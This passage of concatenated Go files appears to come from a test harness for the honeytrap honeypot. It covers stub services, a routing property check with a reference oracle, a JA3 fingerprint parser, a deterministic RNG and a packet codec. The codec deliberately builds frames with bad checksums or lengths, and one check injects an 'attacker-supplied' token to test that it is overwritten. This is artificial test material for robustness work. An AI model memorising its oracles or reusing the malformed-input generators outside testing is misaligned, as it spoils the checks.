		n, err := conn.Read(rb)
		if s.SlowMs > 0 && first {
			first = false
			time.Sleep(time.Duration(s.SlowMs) * time.Millisecond)
		}
		Stubs.mu.Lock()
		call.Data = append(call.Data, buf[:n]...)
		if err != nil {
			call.Done = true
			call.Err = err.Error()
		}
		Stubs.cond.Broadcast()
		Stubs.mu.Unlock()
		if n > 0 && s.BlobBytes > 0 && !blobSent {
			blobSent = true
			conn.Write(Blob(s.BlobBytes))
		}
		if n > 0 && s.Echo {
			if s.ReplyDelayMs > 0 {
				time.Sleep(time.Duration(s.ReplyDelayMs) * time.Millisecond)
			}
			if s.DeadlineMs > 0 {
				conn.SetWriteDeadline(time.Time{})
			}
			conn.Write(buf[:n])
			if s.DeadlineMs > 0 {
				conn.SetWriteDeadline(time.Now().Add(time.Duration(s.DeadlineMs) * time.Millisecond))
			}
		}
		if err != nil {
			return nil
		}
		if n > 0 && s.CloseAfterFirst {
			Stubs.mu.Lock()
			call.Done = true
			Stubs.cond.Broadcast()
			Stubs.mu.Unlock()
			return nil
		}
		if n == 0 {
			// a datagram connection that reports no progress: stop rather than spin
			Stubs.mu.Lock()
			call.Done = true
			Stubs.mu.Unlock()
			return nil
		}
	}
}

// emitter sends one event per request line: {"stamp":N,"fields":{k:{T,V}}}.
type emitter struct {
	ch pushers.Channel
}

func (e *emitter) SetChannel(c pushers.Channel) { e.ch = c }

type EmitSpec struct {
	Stamp  int               `json:"stamp"`
	Fields map[string]EmitTV `json:"fields"`
}
type EmitTV struct {
	T string `json:"T"` // string | int | bytes | nil
	V string `json:"V"`
}

func (e *emitter) Handle(ctx context.Context, conn net.Conn) error {
	sc := bufio.NewScanner(conn)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	for sc.Scan() {
		var sp EmitSpec
		if json.Unmarshal(sc.Bytes(), &sp) != nil {
			conn.Write([]byte("bad\n"))
			continue
		}
		opts := []event.Option{event.Custom("stamp", sp.Stamp)}
		for k, tv := range sp.Fields {
			switch tv.T {
			case "string":
				opts = append(opts, event.Custom(k, tv.V))
			case "int":
				opts = append(opts, event.Custom(k, len(tv.V)))
			case "bytes":
				opts = append(opts, event.Custom(k, []byte(tv.V)))
			case "nil":
				opts = append(opts, event.Custom(k, nil))
			}
		}
		e.ch.Send(event.New(opts...))
		conn.Write([]byte("ok\n"))
	}
	return nil
}

// Blob is the content a stub with blob_bytes=n writes in one call: every 16-byte block carries its own offset.
func Blob(n int) []byte {
	b := make([]byte, 0, n+16)
	for off := 0; len(b) < n; off += 16 {
		b = append(b, []byte(fmt.Sprintf("[%014d]", off))...)
	}
	return b[:n]
}
