// Package c06: every event reaches exactly the channels whose filters admit
// it. Capture channels record what they receive; the oracle is a reference
// router written from the statement (multiset + order + token), plus the
// metamorphic form (unrelated channels/filters removed -> same list).
package c06

import (
	"bufio"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C06" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one generated configuration (1..3 capture channels, 0..4 filters with channel lists incl. unknown names, categories/services lists absent, empty or 1..3 expressions from a regex alphabet) run through the real server.Run; an emitter service puts 40 stamped events on the bus (category/service matching, non-matching, missing, non-string), sequentially or from two concurrent senders; every third scenario is re-run with all other channels/filters removed. Non-trivial = >=1 stamped event was delivered to or withheld from a channel by a filter; distinct by configuration text. One event in eight already carries a token key (string, int or nil) when it is put on the bus. The expression alphabet includes inline flags ((?i), (?s)), a character class and a counted repetition; values come in upper and mixed case. One scenario in 160 has a channel that takes six seconds over its first event."
}
func (prop) Assumptions() []string {
	return []string{"an empty expression list is treated like an absent one", "a missing or non-string category/service is matched as the empty string", "no duplicate channel names within one filter", "heartbeat and other unstamped events are ignored"}
}

// expressions whose meaning must not depend on their neighbours in the list: plain, anchored, alternations, and
// expressions that set an inline flag for themselves (case-insensitive, dot matches newline)
var alphabet = []string{"ssh", "^ssh$", "ssh|ftp", "^f", "tp$", ".*", "^$", "x", "(?i)ssh", "(?i)^f", "telnet", "(?s)s.h", "[s]sh$", "s{2}h"}
var values = []string{"ssh", "ftp", "sftp", "x", "", "sshd", "telnet", "TELNET", "SSH", "Ftp", "s\nh"}

type filter struct {
	Channels   []string `json:"channels"`
	Categories []string `json:"categories"`
	Services   []string `json:"services"`
	CatMode    int      `json:"cat_mode"` // 0 absent, 1 empty list, 2 listed
	SvcMode    int      `json:"svc_mode"`
}

type evSpec struct {
	Stamp int    `json:"stamp"`
	CatT  string `json:"cat_t"` // string|int|bytes|nil|missing
	CatV  string `json:"cat_v"`
	SvcT  string `json:"svc_t"`
	SvcV  string `json:"svc_v"`
	Conn  int    `json:"conn"`
	// TokT/TokV: the event already holds a "token" key when it is put on the bus (a relayed event, a captured
	// credential stored under that name): "" = no such key
	TokT string `json:"tok_t,omitempty"`
	TokV string `json:"tok_v,omitempty"`
}

type scenario struct {
	Channels   []string `json:"channels"`
	Filters    []filter `json:"filters"`
	Events     []evSpec `json:"events"`
	Concurrent bool     `json:"concurrent"`
	// Stall: this channel takes six seconds over its first event; the sender goes on sending meanwhile (or waits -
	// either way the channel must get its events in sending order)
	Stall string `json:"stalling_channel,omitempty"`
}

func mkScenario(seed int64, idx int) scenario {
	r := core.NewRng(seed, "C06", idx)
	var sc scenario
	nc := r.Range(1, 3)
	for i := 0; i < nc; i++ {
		sc.Channels = append(sc.Channels, fmt.Sprintf("cap%d", i))
	}
	nf := r.Range(0, 4)
	exprs := func(mode *int) []string {
		*mode = r.PickI([]int{0, 0, 1, 2, 2, 2})
		if *mode != 2 {
			return nil
		}
		var o []string
		for j := r.Range(1, 3); j > 0; j-- {
			o = append(o, r.PickS(alphabet))
		}
		return o
	}
	for i := 0; i < nf; i++ {
		var f filter
		perm := r.Perm(nc)
		for j := 0; j < r.Range(1, nc); j++ {
			f.Channels = append(f.Channels, sc.Channels[perm[j]])
		}
		if r.Chance(1, 8) {
			f.Channels = append(f.Channels, "nochan")
		}
		f.Categories = exprs(&f.CatMode)
		f.Services = exprs(&f.SvcMode)
		sc.Filters = append(sc.Filters, f)
	}
	sc.Concurrent = r.Chance(1, 4)
	if idx%160 == 7 {
		sc.Concurrent = false
		sc.Stall = sc.Channels[0]
	}
	field := func() (string, string) {
		switch r.Intn(10) {
		case 0:
			return "missing", ""
		case 1:
			return r.PickS([]string{"int", "bytes", "nil"}), r.PickS(values)
		default:
			return "string", r.PickS(values)
		}
	}
	for i := 0; i < 40; i++ {
		e := evSpec{Stamp: i + 1}
		e.CatT, e.CatV = field()
		e.SvcT, e.SvcV = field()
		if sc.Concurrent {
			e.Conn = i % 2
		}
		if r.Chance(1, 8) {
			e.TokT, e.TokV = r.PickS([]string{"string", "string", "int", "nil"}), r.PickS([]string{"attacker-supplied", "", "7"})
		}
		sc.Events = append(sc.Events, e)
	}
	return sc
}

// reduce keeps only channel ch and the filters naming it (restricted to it).
func reduce(sc scenario, ch string) scenario {
	out := scenario{Channels: []string{ch}, Events: sc.Events, Concurrent: sc.Concurrent}
	for _, f := range sc.Filters {
		for _, c := range f.Channels {
			if c == ch {
				g := f
				g.Channels = []string{ch}
				out.Filters = append(out.Filters, g)
			}
		}
	}
	return out
}

func config(sc scenario) string {
	var b strings.Builder
	b.WriteString("[listener]\ntype=\"lab\"\n\n")
	for _, c := range sc.Channels {
		if c == sc.Stall {
			fmt.Fprintf(&b, "[channel.%s]\ntype=\"lab-capture\"\nid=%q\nstall_first_ms=6000\n\n", c, c)
			continue
		}
		fmt.Fprintf(&b, "[channel.%s]\ntype=\"lab-capture\"\nid=%q\n\n", c, c)
	}
	q := func(xs []string) string {
		var o []string
		for _, x := range xs {
			o = append(o, fmt.Sprintf("%q", x))
		}
		return "[" + strings.Join(o, ",") + "]"
	}
	for _, f := range sc.Filters {
		fmt.Fprintf(&b, "[[filter]]\nchannel=%s\n", q(f.Channels))
		if f.CatMode >= 1 {
			fmt.Fprintf(&b, "categories=%s\n", q(f.Categories))
		}
		if f.SvcMode >= 1 {
			fmt.Fprintf(&b, "services=%s\n", q(f.Services))
		}
		b.WriteString("\n")
	}
	b.WriteString("[service.emit]\ntype=\"lab-stub-emitter\"\n\n[[port]]\nport=\"tcp/9000\"\nservices=[\"emit\"]\n")
	return b.String()
}

// ---- reference router (from the statement) ---------------------------------------

func asString(t, v string) string {
	if t == "string" {
		return v
	}
	return "" // missing or not a string
}

func admits(exprs []string, val string) bool {
	if len(exprs) == 0 {
		return true
	}
	for _, e := range exprs {
		if regexp.MustCompile(e).MatchString(val) {
			return true
		}
	}
	return false
}

// expected returns, per channel, the stamps in delivery order for one sender's events.
func expected(sc scenario, conn int) map[string][]int {
	out := map[string][]int{}
	for _, e := range sc.Events {
		if e.Conn != conn {
			continue
		}
		for _, f := range sc.Filters {
			if !admits(f.Categories, asString(e.CatT, e.CatV)) || !admits(f.Services, asString(e.SvcT, e.SvcV)) {
				continue
			}
			for _, ch := range f.Channels {
				known := false
				for _, c := range sc.Channels {
					if c == ch {
						known = true
					}
				}
				if known {
					out[ch] = append(out[ch], e.Stamp)
				}
			}
		}
	}
	return out
}

// note on order within one event: the bus delivers to subscribers in
// subscription order (filter order, then channel order inside the filter);
// for one channel that is filter order, which is what expected() produces.

// ---- child ---------------------------------------------------------------------

type delivery struct {
	Ch    string `json:"ch"`
	Stamp int    `json:"stamp"`
	Token string `json:"token"`
	Conn  int    `json:"conn"`
}

type scnObs struct {
	Variant    string     `json:"variant"` // full | reduced:<ch>
	Deliveries []delivery `json:"deliveries"`
	Token      string     `json:"token"`
	Sent       int        `json:"sent"`
}

type params struct {
	Offset int `json:"offset"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks := 640, 8
	if tier == "thorough" {
		n, chunks = 20000, 16
	}
	var plan []core.Batch
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Offset: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("cfg/%d", c), N: per, Params: p, Timeout: 900})
	}
	return plan
}

func runOnce(sc scenario, variant string) (scnObs, error) {
	ob := scnObs{Variant: variant}
	srv, err := lab.Start(config(sc))
	if err != nil {
		return ob, err
	}
	defer srv.Stop()
	ob.Token = srv.Token
	ev0 := lab.Events.Len()
	nconn := 1
	if sc.Concurrent {
		nconn = 2
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	for c := 0; c < nconn; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 9000), lab.TCPAddr("203.0.113.5", 6000+c))
			defer cc.Close()
			rd := bufio.NewReader(cc)
			for _, e := range sc.Events {
				if e.Conn != c {
					continue
				}
				sp := lab.EmitSpec{Stamp: e.Stamp, Fields: map[string]lab.EmitTV{"conn": {T: "int", V: strings.Repeat("x", c)}}}
				if e.CatT != "missing" {
					sp.Fields["category"] = lab.EmitTV{T: e.CatT, V: e.CatV}
				}
				if e.SvcT != "missing" {
					sp.Fields["service"] = lab.EmitTV{T: e.SvcT, V: e.SvcV}
				}
				if e.TokT != "" {
					sp.Fields["token"] = lab.EmitTV{T: e.TokT, V: e.TokV}
				}
				jb, _ := json.Marshal(sp)
				cc.SetDeadline(time.Now().Add(15 * time.Second))
				if _, err := cc.Write(append(jb, '\n')); err != nil {
					return
				}
				if _, err := rd.ReadString('\n'); err != nil { // the stub answers after bus.Send returned
					return
				}
				mu.Lock()
				ob.Sent++
				mu.Unlock()
			}
		}(c)
	}
	wg.Wait()
	// bus delivery is synchronous inside Send, so everything has arrived; settle briefly anyway
	lab.Events.Settle(2*time.Millisecond, 20*time.Millisecond)
	for _, c := range lab.Events.Since(ev0) {
		if c.Run != srv.Run {
			continue
		}
		st, ok := lab.Int(c.Rec, "stamp")
		if !ok {
			continue
		}
		cn, _ := lab.Int(c.Rec, "conn")
		ob.Deliveries = append(ob.Deliveries, delivery{Ch: c.Ch, Stamp: int(st), Token: lab.Str(c.Rec, "token"), Conn: int(cn)})
	}
	return ob, nil
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		sc := mkScenario(b.Seed, p.Offset+k)
		o.Begin(k)
		ob, err := runOnce(sc, "full")
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			o.End(k)
			continue
		}
		o.EmitX("obs", ob)
		if (p.Offset+k)%3 == 0 {
			ch := sc.Channels[(p.Offset+k)%len(sc.Channels)]
			ob2, err := runOnce(reduce(sc, ch), "reduced:"+ch)
			if err == nil {
				o.EmitX("obs", ob2)
			}
		}
		o.End(k)
	}
}

// ---- judge ---------------------------------------------------------------------

func project(ds []delivery, ch string, conn int) []int {
	var o []int
	for _, d := range ds {
		if d.Ch == ch && d.Conn == conn {
			o = append(o, d.Stamp)
		}
	}
	return o
}

func eqInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func diffKind(got, want []int) string {
	cnt := map[int]int{}
	for _, x := range want {
		cnt[x]++
	}
	for _, x := range got {
		cnt[x]--
	}
	missing, extra := false, false
	for _, n := range cnt {
		if n > 0 {
			missing = true
		}
		if n < 0 {
			extra = true
		}
	}
	switch {
	case missing && extra:
		return "missing-and-extra"
	case missing:
		return "missing"
	case extra:
		return "extra-or-duplicated"
	default:
		return "out-of-order"
	}
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	full := map[int]scnObs{}
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "obs":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			sc := mkScenario(b.Seed, p.Offset+r.K)
			ref := sc
			if strings.HasPrefix(ob.Variant, "reduced:") {
				ref = reduce(sc, strings.TrimPrefix(ob.Variant, "reduced:"))
			} else {
				full[r.K] = ob
			}
			res := core.Result{K: r.K, Verdict: core.Held, Key: ob.Variant + "|" + config(ref)}
			res.Sample = map[string]interface{}{"variant": ob.Variant, "channels": ref.Channels, "filters": ref.Filters, "events_sent": ob.Sent, "deliveries": len(ob.Deliveries), "concurrent_senders": sc.Concurrent, "first_events": sc.Events[:3]}
			if ob.Sent != len(sc.Events) {
				res.Verdict = core.Inconclusive
				res.What = "emitter did not send every event"
				out = append(out, res)
				continue
			}
			nconn := 1
			if sc.Concurrent {
				nconn = 2
			}
			fail := func(rule, what string, w interface{}) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C06|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"config": config(ref), "variant": ob.Variant, "detail": w, "events": sc.Events}
			}
			for _, d := range ob.Deliveries {
				if d.Token != ob.Token || ob.Token == "" {
					fail("token", fmt.Sprintf("event stamp %d delivered to %s carries token %q, sensor token is %q", d.Stamp, d.Ch, d.Token, ob.Token), d)
				}
				known := false
				for _, c := range ref.Channels {
					if c == d.Ch {
						known = true
					}
				}
				if !known {
					fail("unknown-channel", "delivery to a channel that is not configured: "+d.Ch, d)
				}
			}
			for c := 0; c < nconn; c++ {
				exp := expected(ref, c)
				for _, ch := range ref.Channels {
					got, want := project(ob.Deliveries, ch, c), exp[ch]
					if !eqInts(got, want) {
						fail("route|"+diffKind(got, want), fmt.Sprintf("channel %s received stamps %v from sender %d, the statement gives %v", ch, clipInts(got), c, clipInts(want)), map[string]interface{}{"channel": ch, "got": got, "want": want})
					}
				}
			}
			// metamorphic: reduced run must equal the projection of the full run
			if strings.HasPrefix(ob.Variant, "reduced:") {
				ch := strings.TrimPrefix(ob.Variant, "reduced:")
				if fo, ok := full[r.K]; ok {
					for c := 0; c < nconn; c++ {
						if a, bb := project(fo.Deliveries, ch, c), project(ob.Deliveries, ch, c); !eqInts(a, bb) {
							fail("depends-on-other-channels", fmt.Sprintf("channel %s received %v with the other channels/filters configured and %v without them", ch, clipInts(a), clipInts(bb)), nil)
						}
					}
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}

func clipInts(a []int) []int {
	if len(a) > 12 {
		return a[:12]
	}
	return a
}
