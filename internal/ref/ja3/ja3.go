// Package ja3 computes the JA3 fingerprint of a raw ClientHello handshake
// message, written from the JA3 specification (salesforce/ja3 README):
// SSLVersion,Cipher,SSLExtension,EllipticCurve,EllipticCurvePointFormat with
// decimal values joined by "-", GREASE values (RFC 8701) ignored in ciphers,
// extensions and curves, MD5 of the string in hex. It does not import
// honeytrap's TLS fork.
package ja3

import (
	"crypto/md5"
	"encoding/hex"
	"errors"
	"strconv"
	"strings"
)

func IsGREASE(v uint16) bool { return v&0x0f0f == 0x0a0a && v>>8 == v&0xff }

// Parsed is what the fingerprint needs from a hello, plus the SNI.
type Parsed struct {
	Version    uint16
	Ciphers    []uint16
	Extensions []uint16
	Curves     []uint16
	Points     []uint8
	SNI        string
}

func u16(b []byte) uint16 { return uint16(b[0])<<8 | uint16(b[1]) }

// Parse takes the handshake message (type byte 1, 3-byte length, body).
func Parse(msg []byte) (*Parsed, error) {
	bad := errors.New("ja3: malformed ClientHello")
	if len(msg) < 4 || msg[0] != 1 {
		return nil, bad
	}
	n := int(msg[1])<<16 | int(msg[2])<<8 | int(msg[3])
	b := msg[4:]
	if len(b) != n || len(b) < 35 {
		return nil, bad
	}
	p := &Parsed{Version: u16(b)}
	b = b[34:]
	sl := int(b[0])
	if len(b) < 1+sl+2 {
		return nil, bad
	}
	b = b[1+sl:]
	cl := int(u16(b))
	b = b[2:]
	if cl%2 != 0 || len(b) < cl+1 {
		return nil, bad
	}
	for i := 0; i < cl; i += 2 {
		p.Ciphers = append(p.Ciphers, u16(b[i:]))
	}
	b = b[cl:]
	ml := int(b[0])
	if len(b) < 1+ml {
		return nil, bad
	}
	b = b[1+ml:]
	if len(b) == 0 {
		return p, nil
	}
	if len(b) < 2 || int(u16(b)) != len(b)-2 {
		return nil, bad
	}
	b = b[2:]
	for len(b) > 0 {
		if len(b) < 4 {
			return nil, bad
		}
		t, l := u16(b), int(u16(b[2:]))
		b = b[4:]
		if len(b) < l {
			return nil, bad
		}
		body := b[:l]
		b = b[l:]
		p.Extensions = append(p.Extensions, t)
		switch t {
		case 0:
			if len(body) >= 5 && body[2] == 0 {
				nl := int(u16(body[3:]))
				if len(body) >= 5+nl {
					p.SNI = string(body[5 : 5+nl])
				}
			}
		case 10:
			if len(body) >= 2 {
				for i := 2; i+1 < len(body); i += 2 {
					p.Curves = append(p.Curves, u16(body[i:]))
				}
			}
		case 11:
			if len(body) >= 1 {
				p.Points = append(p.Points, body[1:]...)
			}
		}
	}
	return p, nil
}

func join16(vs []uint16, dropGrease bool) string {
	var s []string
	for _, v := range vs {
		if dropGrease && IsGREASE(v) {
			continue
		}
		s = append(s, strconv.Itoa(int(v)))
	}
	return strings.Join(s, "-")
}

// String is the JA3 string.
func (p *Parsed) String() string {
	var pts []string
	for _, v := range p.Points {
		pts = append(pts, strconv.Itoa(int(v)))
	}
	return strconv.Itoa(int(p.Version)) + "," + join16(p.Ciphers, true) + "," + join16(p.Extensions, true) + "," + join16(p.Curves, true) + "," + strings.Join(pts, "-")
}

// Digest is the JA3 fingerprint.
func (p *Parsed) Digest() string {
	h := md5.Sum([]byte(p.String()))
	return hex.EncodeToString(h[:])
}
