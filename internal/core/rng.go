// Package core holds the parts every check shares: deterministic random
// streams, the observation log, the driver that runs children and judges
// their logs, the evidence writer and the known-findings matcher.
package core

import (
	"hash/fnv"
)

// Rng is a SplitMix64 stream. Every scenario derives its own stream from
// (seed, property/stream name, index) so that a scenario is a pure function of
// those three values.
type Rng struct{ s uint64 }

func NewRng(seed int64, stream string, idx int) *Rng {
	h := fnv.New64a()
	h.Write([]byte(stream))
	r := &Rng{s: uint64(seed)*0x9E3779B97F4A7C15 ^ h.Sum64() ^ (uint64(idx)+1)*0xBF58476D1CE4E5B9}
	r.U64()
	r.U64()
	return r
}

func (r *Rng) U64() uint64 {
	r.s += 0x9E3779B97F4A7C15
	z := r.s
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

func (r *Rng) Intn(n int) int {
	if n <= 0 {
		return 0
	}
	return int(r.U64() % uint64(n))
}

// Range returns a value in [lo, hi].
func (r *Rng) Range(lo, hi int) int {
	if hi <= lo {
		return lo
	}
	return lo + r.Intn(hi-lo+1)
}

func (r *Rng) Bool() bool { return r.U64()&1 == 1 }

// Chance returns true with probability num/den.
func (r *Rng) Chance(num, den int) bool { return r.Intn(den) < num }

func (r *Rng) Bytes(n int) []byte {
	b := make([]byte, n)
	for i := 0; i < n; i += 8 {
		v := r.U64()
		for j := 0; j < 8 && i+j < n; j++ {
			b[i+j] = byte(v >> (8 * uint(j)))
		}
	}
	return b
}

func (r *Rng) PickS(xs []string) string { return xs[r.Intn(len(xs))] }
func (r *Rng) PickI(xs []int) int       { return xs[r.Intn(len(xs))] }

// Perm returns a permutation of 0..n-1.
func (r *Rng) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	for i := n - 1; i > 0; i-- {
		j := r.Intn(i + 1)
		p[i], p[j] = p[j], p[i]
	}
	return p
}

// Alnum returns n characters of [a-z0-9].
func (r *Rng) Alnum(n int) string {
	const al = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = al[r.Intn(len(al))]
	}
	return string(b)
}
