// Package frames is an independent Ethernet/IPv4/TCP/UDP/ICMP/ARP codec
// written from the RFCs (791, 793, 768, 792, 826). It does not import
// honeytrap's parsers: it builds the frames the harness injects and decodes
// and verifies (lengths, checksums) the frames honeytrap emits.
package frames

import (
	"encoding/binary"
	"fmt"
	"net"
)

const (
	FIN = 0x01
	SYN = 0x02
	RST = 0x04
	PSH = 0x08
	ACK = 0x10
	URG = 0x20
)

// Sum16 is the Internet checksum (one's complement of the one's complement sum).
func Sum16(parts ...[]byte) uint16 {
	var sum uint32
	for _, b := range parts {
		n := len(b)
		for i := 0; i+1 < n; i += 2 {
			sum += uint32(b[i])<<8 | uint32(b[i+1])
		}
		if n%2 == 1 {
			sum += uint32(b[n-1]) << 8
		}
		// note: callers only pass an odd-length part last
	}
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

func Eth(dst, src net.HardwareAddr, typ uint16, payload []byte) []byte {
	b := make([]byte, 0, 14+len(payload))
	b = append(b, dst[:6]...)
	b = append(b, src[:6]...)
	b = binary.BigEndian.AppendUint16(b, typ)
	return append(b, payload...)
}

// IPv4 describes a header to build. Negative IHL/TotalLen mean "correct value".
type IPv4 struct {
	IHL      int // in 32-bit words; -1 = 5 + options
	TotalLen int // -1 = header + payload
	ID       uint16
	FlagsOff uint16
	TTL      uint8
	Proto    uint8
	Src, Dst net.IP
	Options  []byte
	BadSum   bool
}

func (h IPv4) Marshal(payload []byte) []byte {
	opts := h.Options
	for len(opts)%4 != 0 {
		opts = append(opts, 0)
	}
	ihl := h.IHL
	if ihl < 0 {
		ihl = 5 + len(opts)/4
	}
	tl := h.TotalLen
	if tl < 0 {
		tl = 20 + len(opts) + len(payload)
	}
	ttl := h.TTL
	if ttl == 0 {
		ttl = 64
	}
	b := make([]byte, 20, 20+len(opts)+len(payload))
	b[0] = 0x40 | byte(ihl&0x0f)
	binary.BigEndian.PutUint16(b[2:], uint16(tl))
	binary.BigEndian.PutUint16(b[4:], h.ID)
	binary.BigEndian.PutUint16(b[6:], h.FlagsOff)
	b[8] = ttl
	b[9] = h.Proto
	copy(b[12:16], h.Src.To4())
	copy(b[16:20], h.Dst.To4())
	b = append(b, opts...)
	hl := 20 + len(opts)
	cs := Sum16(b[:hl])
	if h.BadSum {
		cs ^= 0x5555
	}
	binary.BigEndian.PutUint16(b[10:], cs)
	return append(b, payload...)
}

type TCP struct {
	Sport, Dport uint16
	Seq, Ack     uint32
	Off          int // data offset in words; -1 = 5 + options
	Flags        uint8
	Win          uint16
	Urg          uint16
	Options      []byte
	BadSum       bool
}

func pseudo(src, dst net.IP, proto uint8, l int) []byte {
	p := make([]byte, 12)
	copy(p[0:4], src.To4())
	copy(p[4:8], dst.To4())
	p[9] = proto
	binary.BigEndian.PutUint16(p[10:], uint16(l))
	return p
}

func (t TCP) Marshal(src, dst net.IP, payload []byte) []byte {
	opts := t.Options
	off := t.Off
	if off < 0 {
		for len(opts)%4 != 0 {
			opts = append(opts, 0)
		}
		off = 5 + len(opts)/4
	}
	b := make([]byte, 20, 20+len(opts)+len(payload))
	binary.BigEndian.PutUint16(b[0:], t.Sport)
	binary.BigEndian.PutUint16(b[2:], t.Dport)
	binary.BigEndian.PutUint32(b[4:], t.Seq)
	binary.BigEndian.PutUint32(b[8:], t.Ack)
	b[12] = byte(off&0x0f) << 4
	b[13] = t.Flags
	w := t.Win
	if w == 0 {
		w = 65535
	}
	binary.BigEndian.PutUint16(b[14:], w)
	binary.BigEndian.PutUint16(b[18:], t.Urg)
	b = append(b, opts...)
	b = append(b, payload...)
	cs := Sum16(pseudo(src, dst, 6, len(b)), b)
	if t.BadSum {
		cs ^= 0x1111
	}
	binary.BigEndian.PutUint16(b[16:], cs)
	return b
}

// UDP builds a datagram; length < 0 means the correct length.
func UDP(src, dst net.IP, sport, dport uint16, length int, payload []byte) []byte {
	b := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(b[0:], sport)
	binary.BigEndian.PutUint16(b[2:], dport)
	if length < 0 {
		length = 8 + len(payload)
	}
	binary.BigEndian.PutUint16(b[4:], uint16(length))
	b = append(b, payload...)
	cs := Sum16(pseudo(src, dst, 17, len(b)), b)
	if cs == 0 {
		cs = 0xffff
	}
	binary.BigEndian.PutUint16(b[6:], cs)
	return b
}

func ICMPEcho(id, seq uint16, payload []byte) []byte {
	b := make([]byte, 8, 8+len(payload))
	b[0] = 8
	binary.BigEndian.PutUint16(b[4:], id)
	binary.BigEndian.PutUint16(b[6:], seq)
	b = append(b, payload...)
	binary.BigEndian.PutUint16(b[2:], Sum16(b))
	return b
}

func ARP(op uint16, hwSize, protoSize uint8, sha net.HardwareAddr, spa net.IP, tha net.HardwareAddr, tpa net.IP) []byte {
	b := []byte{0, 1, 8, 0, hwSize, protoSize, byte(op >> 8), byte(op)}
	b = append(b, sha...)
	b = append(b, spa.To4()...)
	b = append(b, tha...)
	return append(b, tpa.To4()...)
}

// Decoded is an emitted frame taken apart and verified.
type Decoded struct {
	EthDst, EthSrc net.HardwareAddr
	EthType        uint16
	IPSrc, IPDst   net.IP
	IPProto        uint8
	IPID           uint16
	IPTotalLen     int
	Sport, Dport   uint16
	Seq, Ack       uint32
	Flags          uint8
	Win            uint16
	DataOff        int
	Payload        []byte
	Problems       []string // anything a correct peer would reject
}

func (d *Decoded) bad(f string, a ...interface{}) { d.Problems = append(d.Problems, fmt.Sprintf(f, a...)) }

// DecodeTCPFrame decodes and verifies an Ethernet/IPv4/TCP frame.
func DecodeTCPFrame(f []byte) *Decoded {
	d := &Decoded{}
	if len(f) < 14 {
		d.bad("frame shorter than an Ethernet header (%d)", len(f))
		return d
	}
	d.EthDst, d.EthSrc = net.HardwareAddr(append([]byte(nil), f[0:6]...)), net.HardwareAddr(append([]byte(nil), f[6:12]...))
	d.EthType = binary.BigEndian.Uint16(f[12:14])
	if d.EthType != 0x0800 {
		d.bad("ethertype %#04x, want IPv4", d.EthType)
		return d
	}
	ip := f[14:]
	if len(ip) < 20 {
		d.bad("IPv4 header truncated (%d bytes)", len(ip))
		return d
	}
	if ip[0]>>4 != 4 {
		d.bad("IP version %d", ip[0]>>4)
	}
	ihl := int(ip[0]&0x0f) * 4
	if ihl < 20 || ihl > len(ip) {
		d.bad("IHL %d bytes does not fit", ihl)
		return d
	}
	d.IPTotalLen = int(binary.BigEndian.Uint16(ip[2:4]))
	if d.IPTotalLen != len(ip) {
		d.bad("IPv4 total length %d, frame carries %d", d.IPTotalLen, len(ip))
	}
	if d.IPTotalLen < ihl || d.IPTotalLen > len(ip) {
		return d
	}
	if Sum16(ip[:ihl]) != 0 {
		d.bad("IPv4 header checksum does not verify (stored %#04x)", binary.BigEndian.Uint16(ip[10:12]))
	}
	d.IPID = binary.BigEndian.Uint16(ip[4:6])
	d.IPProto = ip[9]
	d.IPSrc = net.IP(append([]byte(nil), ip[12:16]...))
	d.IPDst = net.IP(append([]byte(nil), ip[16:20]...))
	if ip[8] == 0 {
		d.bad("TTL 0")
	}
	if d.IPProto != 6 {
		d.bad("IP protocol %d, want TCP", d.IPProto)
		return d
	}
	seg := ip[ihl:d.IPTotalLen]
	if len(seg) < 20 {
		d.bad("TCP header truncated (%d bytes)", len(seg))
		return d
	}
	d.Sport = binary.BigEndian.Uint16(seg[0:2])
	d.Dport = binary.BigEndian.Uint16(seg[2:4])
	d.Seq = binary.BigEndian.Uint32(seg[4:8])
	d.Ack = binary.BigEndian.Uint32(seg[8:12])
	d.DataOff = int(seg[12]>>4) * 4
	d.Flags = seg[13] & 0x3f
	d.Win = binary.BigEndian.Uint16(seg[14:16])
	if d.DataOff < 20 || d.DataOff > len(seg) {
		d.bad("TCP data offset %d does not fit segment of %d", d.DataOff, len(seg))
		return d
	}
